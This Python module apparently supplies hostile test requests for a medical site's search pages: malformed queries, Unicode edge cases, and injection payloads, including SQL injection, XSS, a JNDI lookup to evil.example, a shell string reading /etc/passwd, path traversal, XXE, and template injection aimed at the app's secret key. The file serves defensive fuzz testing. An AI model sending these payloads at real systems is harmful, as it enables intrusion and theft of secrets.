r"""Hostile requests: what each attacks, and the request. Tests and `script/hostile` send the same ones.

Texts are given as they would be typed and are percent-encoded here; targets as they stand in the request line.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

SEARCHES = ("/search", "/search/suggest")


@dataclass(frozen=True)
class Attack:
    """One request.

    Attributes:
        what: what it attacks.
        target: path and query string as sent: ASCII, percent-encoded.
        method: GET or HEAD.
        typed: the text behind the target, or "".
    """

    what: str
    target: str
    method: str = "GET"
    typed: str = ""


# (what it attacks, what is typed); each goes to the search page and to the suggestions.
TEXTS: tuple[tuple[str, str], ...] = (
    # Operators of query languages: ours is smaller, so these are plain words or nothing.
    ("operator alone", "AND"),
    ("operator alone", "OR"),
    ("operator alone", "NOT"),
    ("operators with nothing between", "AND OR NOT AND"),
    ("operator at the end", "headache AND"),
    ("operator at the start", "OR headache"),
    ("repeated negation", "NOT " * 300 + "pain"),
    ("signs of operators", "&& || !"),
    ("required word", "+kesimpta +zzzz"),
    ("minus alone", "-"),
    ("only minus words", "-headache -pain"),
    ("many minus signs", "-" * 500),
    ("double minus", "--kesimpta"),
    ("minus before a phrase without end", '-"multiple sclerosis'),
    ("boost", "kesimpta^99999999999"),
    ("boost that is no number", "kesimpta^nan"),
    ("fuzzy with a great distance", "kesimpta~99"),
    ("slop", '"heart attack"~999999'),
    ("range", "[a TO z]"),
    ("open range", "{* TO *}"),
    ("half a range", "[a TO"),
    ("comparison", "updated:>=20200101"),
    # Brackets.
    ("open brackets", "((("),
    ("closed brackets", ")))"),
    ("deep nesting", "(" * 1000 + "pain" + ")" * 1000),
    ("all kinds of bracket", "([{<>}])"),
    ("wrong order", ")kesimpta("),
    # Wildcards and regular expressions: each could be spelled out into every word of the index.
    ("wildcard alone", "*"),
    ("prefix of one letter", "a*"),
    ("leading wildcard", "*a"),
    ("wildcards on both sides", "*a*"),
    ("many wildcards", "a*b*c*d*e*f*g*h*" * 8),
    ("question marks", "?" * 60),
    ("regular expression", "/.*/"),
    ("expression that backtracks", "(a+)+$" + "a" * 60 + "!"),
    ("expression that backtracks", "^(([a-z])+.)+[A-Z]([a-z])+$"),
    ("character class without end", "[a-z"),
    ("lone backslash", "\\"),
    ("many backslashes", "\\" * 400),
    ("backslash before a quote", '\\"pain\\"'),
    # Quotes.
    ("quote without end", '"multiple sclerosis'),
    ("lone quote", '"'),
    ("ninety-nine quotes", '"' * 99),
    ("empty phrase", '""'),
    ("phrase of blanks", '"     "'),
    ("phrase of stop words", '"the of and to"'),
    ("quotes inside quotes", '"heart "attack" pain"'),
    ("typographic quotes without end", "“multiple sclerosis"),
    ("guillemets", "«heart attack»"),
    ("apostrophes", "'''''''"),
    ("possessives", "crohn's's's's"),
    ("very long phrase", '"' + "heart attack " * 400 + '"'),
    # Fields.
    ("empty field", "effect:"),
    ("empty field with a quote", 'effect:"'),
    ("empty phrase in a field", 'effect:""'),
    ("field of a field", "effect:drug:condition:headache"),
    ("unknown field", "title:kesimpta"),
    ("private field", "_stored:x body:y exact_name:z"),
    ("excluded field", "-effect:headache"),
    ("two hundred fields", "effect:headache " * 200),
    ("fields that exclude each other", "drug:kesimpta drug:xarelto drug:warfarin"),
    ("colons", ":" * 300),
    ("field with a wildcard", "drug:*"),
    ("field in capitals", "EFFECT:HEADACHE"),
    ("full-width colon", "effect：headache"),
    # Control, format and unseen characters.
    ("NUL", "\x00"),
    ("NUL inside a word", "kesi\x00mpta"),
    ("control characters", "".join(map(chr, range(1, 32)))),
    ("delete and C1 controls", "\x7f\x80\x85\x9f"),
    ("escape sequence of a terminal", "\x1b[31mred\x1b[0m"),
    ("text direction turned", "\u202epain\u202c"),
    ("isolates without end", "\u2066\u2067\u2068pain"),
    ("zero-width characters only", "\u200b\u200c\u200d\u2060\ufeff"),
    ("zero-width inside a name", "kesi\u200bmp\u200dta"),
    ("soft hyphens", "kes\u00adimp\u00adta"),
    ("line and paragraph separators", "heart\u2028attack\u2029pain"),
    ("no-break and other blanks", "heart\u00a0attack\u2003pain\u3000"),
    ("tag characters", "\U000e0041\U000e0042"),
    ("variation selectors", "a\ufe0f\ufe0f\ufe0f"),
    ("private use", "\ue000\uf8ff"),
    ("not a character", "\ufffe\uffff\U0010ffff"),
    ("replacement characters", "\ufffd" * 50),
    ("interlinear annotation", "\ufff9pain\ufffahurt\ufffb"),
    # Emoji, marks and scripts.
    ("emoji", "💊🤕🧠"),
    ("joined emoji", "👩\u200d⚕️👨\u200d👩\u200d👧\u200d👦"),
    ("flags", "🇮🇳" * 40),
    ("five hundred accents on one letter", "e" + "\u0301" * 500),
    ("accents on nothing", "\u0301\u0302\u0303"),
    ("many accented words", ("a" + "\u0323\u0307" * 5 + " ") * 200),
    ("Devanagari signs without a letter", "\u093f\u0940\u094d"),
    ("Devanagari half letters", "क्\u200dष्\u200dत्"),
    ("Devanagari with twenty viramas", "सिरदर्द" + "\u094d" * 20),
    ("Hindi, each letter apart", " ".join("सिरदर्द")),
    ("Hindi and Latin in one word", "सिरheadदर्दache"),
    ("Tamil, Bengali, Telugu", "தலைவலி মাথাব্যথা తలనొప్పి"),
    ("Arabic", "صداع الرأس"),
    ("Hebrew points", "כְּאֵב רֹאשׁ"),
    ("a sign that grows eighteen-fold", "ﷺ" * 200),
    ("Chinese without blanks", "头痛" * 500),
    ("Hangul letters apart", "ㅎㅏㄴ" * 50),
    ("Turkish letters without a dot", "ISTANBUL ıİiI"),
    ("sharp s and long s", "ẞßſ" * 20),
    ("ligatures", "ﬁﬂﬃﬄﬅﬆ"),
    ("Cyrillic letters that look Latin", "kеsimptа"),
    ("mathematical letters", "𝓴𝓮𝓼𝓲𝓶𝓹𝓽𝓪"),
    ("full-width forms", "ｋｅｓｉｍｐｔａ　＜ｂ＞"),
    ("circled letters", "ⓚⓔⓢⓘⓜⓟⓣⓐ"),
    ("superscripts and fractions", "x² ½ ⅷ"),
    # Numbers.
    ("digits of other scripts", "१२३ ٣٤٥ 𝟗𝟗"),
    ("a very long number", "9" * 4500),
    ("exponent", "1e308 -1e-400"),
    ("no numbers", "NaN Infinity -Infinity"),
    ("octal and hexadecimal", "0777 0xDEADBEEF 0b11"),
    ("twenty phone numbers", "9876543210 " * 20),
    # Length.
    ("nothing but blanks", " " * 3000),
    ("line breaks and tabs", "\r\n\t\v\f" * 50),
    ("one letter", "a"),
    ("a word of 10,000 letters", "x" * 10_000),
    ("10,000 words", "a " * 10_000),
    ("10,000 different beginnings", " ".join(f"w{number}" for number in range(1_500))),
    ("sixteen misspelt words", " ".join(f"hedachke{letter}migrane" for letter in "abcdefghijklmnop")),
    ("words that run together", "multiplesclerosisheartattackheadachekesimpta"),
    ("letters apart", " ".join("multiple sclerosis")),
    ("sixteen frequent words", "the of and to in a is it that you for with are as on be"),
    ("one word sixteen times", "pain " * 16),
    ("hyphens", "a-" * 500),
    ("dots", "." * 1000),
    ("underscores", "_" * 200),
    # Injections: what is typed is text, whoever reads it next.
    ("SQL", "' OR 1=1 --"),
    ("SQL", "'; DROP TABLE page; --"),
    ("SQL", '" UNION SELECT record FROM page --'),
    ("wildcards of SQL", "%_%_%"),
    ("script", "<script>alert(1)</script>"),
    ("picture with a handler", '"><img src=x onerror=alert(1)>'),
    ("handler in an attribute", '" autofocus onfocus="alert(1)'),
    ("SVG", "<svg/onload=alert(1)>"),
    ("end of the title", "</title><script>alert(1)</script>"),
    ("end of the heading", "</h1></main><base href=//evil.example>"),
    ("comment without end", "<!--"),
    ("CDATA", "]]><b>x</b>"),
    ("entities", "&lt;b&gt; &#x3c;b&#62; &nbsp &"),
    ("style", "<style>@import '//evil.example'</style>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'),
    ("link to code", "javascript:alert(1)"),
    ("data address", "data:text/html;base64,PHNjcmlwdD4="),
    ("marks of ours", "<mark onclick=alert(1)>pain</mark>"),
    ("encoded twice", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("template of Jinja", "{{ 7*7331 }}{% for x in () %}"),
    ("template of Jinja", "{{ config.SECRET_KEY }}{{ request.environ }}"),
    ("format strings", "%s%n%x {0.__class__} ${7*7331} #{7*7331}"),
    ("shell", "; cat /etc/passwd | sh `id` $(id)"),
    ("path", "../../../../etc/passwd"),
    ("path of Windows", "..\\..\\windows\\win.ini"),
    ("new header", "pain\r\nSet-Cookie: planted=1\r\n\r\n<b>body</b>"),
    ("XML entity", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;'),
    ("JSON", '{"$ne": null}'),
    ("JSON without end", '["' * 200),
    ("object look-up", "${jndi:ldap://evil.example/a}"),
    ("Python", "__import__('os').system('id')"),
    ("formula of a spreadsheet", "=HYPERLINK(1)+cmd|' /C calc'!A0"),
    # Half a character of UTF-16, which UTF-8 cannot hold.
    ("lone surrogates", "\ud800pain\udfff"),
)

# (what it attacks, request target).
TARGETS: tuple[tuple[str, str], ...] = (
    ("no parameter", "/search"),
    ("no parameter", "/search/suggest"),
    ("question mark alone", "/search?"),
    ("name without a value", "/search?q"),
    ("empty value", "/search?q="),
    ("plus as a blank", "/search?q=heart+attack"),
    ("%20 as a blank", "/search?q=heart%20attack"),
    ("encoded plus", "/search?q=heart%2Battack"),
    ("broken percent sign", "/search?q=%"),
    ("broken percent sign", "/search?q=%4"),
    ("percent sign without digits", "/search?q=%zz%u0041"),
    ("invalid UTF-8", "/search?q=%ff%fe%80"),
    ("invalid UTF-8", "/search/suggest?q=%c3%28%f0%28%8c%bc"),
    ("UTF-8 longer than it must be", "/search?q=%c0%af%e0%80%af"),
    ("encoded NUL", "/search?q=pain%00&page=1%00"),
    ("repeated parameter", "/search?q=pain&q=kesimpta&q=%3Cb%3E"),
    ("repeated page", "/search?q=pain&page=1&page=x"),
    ("two thousand parameters", "/search?" + "&".join(f"a{number}=1" for number in range(1_000))),
    ("parameter like a list", "/search?q[]=pain&q[0]=x"),
    ("semicolons", "/search?q=pain;page=2"),
    ("signs between parameters", "/search?&&&q=pain&&=&=x&"),
    ("capitals in the name", "/search?Q=pain"),
    ("unknown parameters", "/search?q=pain&debug=1&admin=true&_method=DELETE"),
    ("page 0", "/search?q=pain&page=0"),
    ("page below 0", "/search?q=pain&page=-1"),
    ("page without a value", "/search?q=pain&page="),
    ("page in words", "/search?q=pain&page=one"),
    ("page with a fraction", "/search?q=pain&page=1.5"),
    ("page as an exponent", "/search?q=pain&page=1e3"),
    ("page with an underscore", "/search?q=pain&page=1_0"),
    ("page in Devanagari digits", "/search?q=pain&page=%e0%a5%a7"),
    ("page as a superscript", "/search?q=pain&page=%c2%b2"),
    ("page past the end", "/search?q=pain&page=9999"),
    ("page beyond any number", "/search?q=pain&page=" + "9" * 4000),
    ("page as a script", "/search?q=pain&page=%3Cscript%3E"),
    ("unknown type", "/search?q=pain&type=nonsense"),
    ("type as a script", "/search?q=pain&type=%22%3E%3Cscript%3E"),
    ("type with a control character", "/search?q=pain&type=medicine%00"),
    ("type in capitals", "/search?q=pain&type=MEDICINE"),
    ("unknown order", "/search?q=pain&sort=random"),
    ("order as SQL", "/search?q=pain&sort=title%20desc--"),
    ("exact in words", "/search?q=pain&exact=maybe"),
    ("all wrong at once", "/search?q=%00&type=x&sort=y&page=z&exact=%ff"),
    ("every filter of an empty query", "/search?q=&type=medicine&sort=title&page=2"),
    ("path below the search", "/search/x"),
    ("slash after the search", "/search/"),
    ("path of files", "/static/..%2f..%2fconfig.py"),
    ("path of files", "/static/%2e%2e/%2e%2e/etc/passwd"),
    ("encoded slash", "/medicines%2fofatumumab/"),
    ("NUL in a path", "/medicines/ofatumumab%00/"),
    ("invalid UTF-8 in a path", "/medicines/%ff%fe/"),
    ("script in a path", "/medicines/%3Cscript%3Ealert(1)%3C%2Fscript%3E/"),
    ("new header in a path", "/medicines/x%0d%0aSet-Cookie:%20planted=1/"),
    ("long path", "/medicines/" + "a" * 3_000 + "/"),
    ("many folders", "/a" * 500 + "/"),
    ("letter that is none", "/medicines/a-to-z/%F0%9F%92%8A/"),
    ("letter with a wildcard", "/medicines/a-to-z/%25/"),
    ("page of a listing", "/medicines/?page=%ff"),
    ("page of a listing", "/side-effects/headache/?page=" + "1" * 3_000),
    ("part of the site map", "/sitemap-99999999999999999999.xml"),
    ("feed of a topic that is none", "/topics/%3Cb%3E/feed.atom"),
)

_HEADS = ("/search", "/search?q=kesimpta", "/search?q=%ff", "/search?q=pain&page=0", "/search/suggest?q=kes", "/a%00/")
# What random requests are made of, besides the texts above.
_NAMES = ("kesimpta", "ofatumumab", "multiple sclerosis", "heart attack", "सिरदर्द", "headache", "chest pain")
_JOINTS = (" ", "", '"', ":", "-", "\t", "\u200d", ") (", "*")


def attacks() -> Iterator[Attack]:
    """Yield every request of the list."""
    for what, text in TEXTS:
        yield from (_typed(what, text, path) for path in SEARCHES)
    yield from (Attack(what, target) for what, target in TARGETS)
    yield from (Attack("HEAD", target, "HEAD") for target in _HEADS)


def random_attacks(number: int, seed: int) -> Iterator[Attack]:
    """Yield requests made at random of pieces of the list, names and stray characters; a seed repeats them."""
    chance = random.Random(seed)  # noqa: S311, not for secrets
    for _ in range(number):
        pieces = [_piece(chance) for _ in range(chance.randint(1, 12))]
        yield _typed("random", chance.choice(_JOINTS).join(pieces), chance.choice(SEARCHES))


def _piece(chance: random.Random) -> str:
    kind = chance.randrange(4)
    if kind == 0:
        return chance.choice(_NAMES)
    if kind == 1:
        return "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 20)))
    start = chance.randrange(20)
    return chance.choice(TEXTS)[1][start : start + chance.randint(1, 40)]


def _typed(what: str, text: str, path: str) -> Attack:
    return Attack(what, f"{path}?q={quote(text.encode('utf-8', 'surrogatepass'), safe='')}", typed=text)
